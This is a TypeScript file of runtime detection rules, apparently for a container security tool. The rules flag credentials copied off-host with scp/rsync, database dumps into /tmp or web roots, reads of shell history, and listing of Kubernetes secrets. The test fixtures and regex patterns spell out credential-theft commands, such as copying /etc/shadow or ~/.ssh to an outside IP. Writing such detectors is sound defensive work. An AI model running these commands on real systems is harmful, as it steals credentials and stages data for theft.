import { defineRule } from '@cws/core'
import { RAN } from '../authors.ts'
import { SHELL_PROGRAMS } from '../names.ts'
import { operandsOf } from '../operands.ts'

const SECRET =
  /(?:^|\/)(?:etc\/g?shadow-?|etc\/krb5\.keytab|\.ssh(?:\/(?:id_(?:rsa|dsa|ecdsa|ed25519))?)?|\.aws(?:\/credentials)?|\.kube(?:\/config)?|\.gnupg|\.git-credentials|\.pgpass)\/?$/
/** `host:`, `user@host:path`, `host::module`; not a path. */
const ELSEWHERE = /^[^/]*:/

export const secretCopiedElsewhere = defineRule({
  id: 'secret-copied-elsewhere',
  name: 'Keys or password hashes were copied to another host',
  severity: 'medium',
  tags: ['mitre:T1048', 'mitre:T1552.004'],
  on: 'exec',
  where: {
    'exec.file.name': ['scp', 'rsync'],
    all: [
      { 'exec.args': ['*shadow*', '*.ssh*', '*.aws*', '*.kube*', '*.gnupg*', '*keytab*', '*.git-credentials*', '*.pgpass*'] },
      { 'exec.args': ['*:*'] },
    ],
  },
  when: (event) => {
    const argv = event.get('exec.argv')
    if (!Array.isArray(argv)) return true
    const operands = operandsOf(argv.map(String))
    return (
      ELSEWHERE.test(operands.at(-1) ?? '') && operands.slice(0, -1).some((operand) => !ELSEWHERE.test(operand) && SECRET.test(operand))
    )
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} copies keys or password hashes to another host: whoever has them there needs this one no more.`,
  advice: 'See which host it went to. If nobody of yours did it, replace the keys, and change the passwords.',
  benign: ['An administrator who moves to another host', 'Backups: except them in `tune`'],
  tests: {
    fires: [
      { 'exec.file.name': 'scp', 'exec.args': '/etc/shadow a@203.0.113.5:', 'exec.argv': ['/etc/shadow', 'a@203.0.113.5:'] },
      {
        'exec.file.name': 'rsync',
        'exec.args': '-az -e ssh -p 443 /root/.ssh/ 203.0.113.5:/srv/x',
        'exec.argv': ['-az', '-e', 'ssh -p 443', '/root/.ssh/', '203.0.113.5:/srv/x'],
      },
      { 'exec.file.name': 'scp', 'exec.args': '-r /home/ann/.aws x:', 'exec.argv': ['-r', '/home/ann/.aws', 'x:'] },
    ],
    silent: [
      {
        'exec.file.name': 'scp',
        'exec.args': '-i /home/ann/.ssh/id_rsa notes.txt host:',
        'exec.argv': ['-i', '/home/ann/.ssh/id_rsa', 'notes.txt', 'host:'],
      },
      {
        'exec.file.name': 'rsync',
        'exec.args': '-a -e ssh -i /root/.ssh/id_rsa /srv/ host:/srv',
        'exec.argv': ['-a', '-e', 'ssh -i /root/.ssh/id_rsa', '/srv/', 'host:/srv'],
      },
      {
        'exec.file.name': 'rsync',
        'exec.args': '-a --exclude /root/.ssh /root/ host:',
        'exec.argv': ['-a', '--exclude', '/root/.ssh', '/root/', 'host:'],
      },
      { 'exec.file.name': 'scp', 'exec.args': '/home/ann/.ssh/id_rsa.pub host:', 'exec.argv': ['/home/ann/.ssh/id_rsa.pub', 'host:'] },
      { 'exec.file.name': 'scp', 'exec.args': 'host:/root/.ssh/id_rsa .', 'exec.argv': ['host:/root/.ssh/id_rsa', '.'] },
    ],
  },
})

const PLACES = '["\']?/(?:tmp|var/tmp|dev/shm|var/www|srv/www|usr/share/nginx)/'

export const databaseDumped = defineRule({
  id: 'database-dumped-to-temporary-folder',
  name: 'A database was written out where all can read',
  severity: 'medium',
  tags: ['mitre:T1213.006', 'mitre:T1074.001', 'mitre:T1005'],
  on: 'exec',
  where: {
    any: [
      {
        'exec.file.name': ['mysqldump', 'mariadb-dump', 'pg_dump', 'pg_dumpall', 'mongodump', 'redis-cli', 'sqlite3'],
        'exec.args': {
          regex: `(?:^|\\s)(?:-r|--result-file|-f|--file|-o|--out|--archive|--rdb|\\.(?:dump|backup|output|once))[\\s=]*${PLACES}`,
        },
      },
      {
        'exec.file.name': SHELL_PROGRAMS,
        all: [
          { 'exec.args': ['*mysqldump*', '*mariadb-dump*', '*pg_dump*', '*mongodump*'] },
          { 'exec.args': { regex: `\\b(?:mysqldump|mariadb-dump|pg_dump(?:all)?|mongodump)\\b[^;]*>\\s*${PLACES}` } },
        ],
      },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} writes a database into a temporary folder or below a web server: what is carried off is put there first.`,
  advice: 'Look at the file and at what became of it: was it sent away, or fetched by a request? Ask whoever looks after the database.',
  benign: ['An administrator who copies a database to another host', 'Backups that begin in /tmp'],
  tests: {
    fires: [
      { 'exec.file.name': 'pg_dump', 'exec.args': '-f /tmp/shop.sql shop' },
      { 'exec.file.name': 'mysqldump', 'exec.args': '--all-databases --result-file=/var/www/html/a.sql' },
      { 'exec.file.name': 'dash', 'exec.args': '-c mysqldump -u root --all-databases | gzip > /dev/shm/a.gz' },
      { 'exec.file.name': 'redis-cli', 'exec.args': '--rdb /tmp/x.rdb' },
    ],
    silent: [
      { 'exec.file.name': 'pg_dump', 'exec.args': '-f /var/backups/shop.sql shop' },
      { 'exec.file.name': 'dash', 'exec.args': '-c mysqldump --all-databases | gzip > /var/backups/a.gz; rm -f /tmp/lock' },
      { 'exec.file.name': 'mysqldump', 'exec.args': '--defaults-file=/tmp/my.cnf shop' },
      { 'exec.file.name': 'pg_dump', 'exec.args': 'shop' },
    ],
  },
})

export const historyRead = defineRule({
  id: 'history-read',
  name: 'The history of a shell or a database client was read',
  severity: 'low',
  tags: ['mitre:T1552.003'],
  on: 'exec',
  where: {
    'exec.file.name': [
      'cat',
      'tac',
      'less',
      'more',
      'head',
      'tail',
      'strings',
      'grep',
      'egrep',
      'rg',
      'awk',
      'gawk',
      'sed',
      'cp',
      'base64',
      'busybox',
    ],
    'exec.args': { regex: '(?:^|[\\s/=])\\.(?:bash|zsh|ash|sh|mysql|psql|python|rediscli|node_repl|mongosh?|sqlite)_?history(?:\\s|$)' },
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} looks through what was typed before: passwords that were given on a command line stand there.`,
  advice: 'Ask the user whether it was them, above all if the history is that of another. Change passwords that stand in it.',
  benign: ['Users who look for a command of theirs'],
  tests: {
    fires: [
      { 'exec.file.name': 'cat', 'exec.args': '/home/ann/.bash_history' },
      { 'exec.file.name': 'grep', 'exec.args': '-i pass /root/.mysql_history /root/.psql_history' },
    ],
    silent: [
      { 'exec.file.name': 'cat', 'exec.args': '/home/ann/.bashrc' },
      { 'exec.file.name': 'grep', 'exec.args': '-r bash_history src' },
      { 'exec.file.name': 'ls', 'exec.args': '/home/ann/.bash_history' },
    ],
  },
})

export const clusterSecretsListed = defineRule({
  id: 'cluster-secrets-listed',
  name: 'Secrets of a cluster were read',
  severity: 'low',
  tags: ['mitre:T1552.007', 'mitre:T1613'],
  on: 'exec',
  where: {
    'exec.file.name': ['kubectl', 'oc', 'k3s', 'microk8s.kubectl', 'kubectl.kubectl'],
    all: [
      { 'exec.args': { regex: '(?:^|\\s)get\\s+(?:\\S+\\s+)*secrets?\\b' } },
      {
        'exec.args': {
          regex:
            '(?:^|\\s)(?:-A|--all-namespaces)(?:\\s|=|$)|(?:^|\\s)(?:-o|--output)[\\s=]*(?:json\\S*|yaml|go-template\\S*|custom-columns\\S*)',
        },
      },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} reads secrets of a cluster, with what is in them or those of all its namespaces.`,
  advice: 'Ask the user whether it was them. If not, replace the secrets, and look at the audit log of the cluster.',
  benign: ['Administrators of the cluster, and tools that deploy to it'],
  tests: {
    fires: [
      { 'exec.file.name': 'kubectl', 'exec.args': 'get secrets -A' },
      { 'exec.file.name': 'kubectl', 'exec.args': '-n shop get secret db -o jsonpath={.data.password}' },
    ],
    silent: [
      { 'exec.file.name': 'kubectl', 'exec.args': 'get secrets' },
      { 'exec.file.name': 'kubectl', 'exec.args': 'get pods -A -o json' },
      { 'exec.file.name': 'kubectl', 'exec.args': 'describe secret x' },
    ],
  },
})
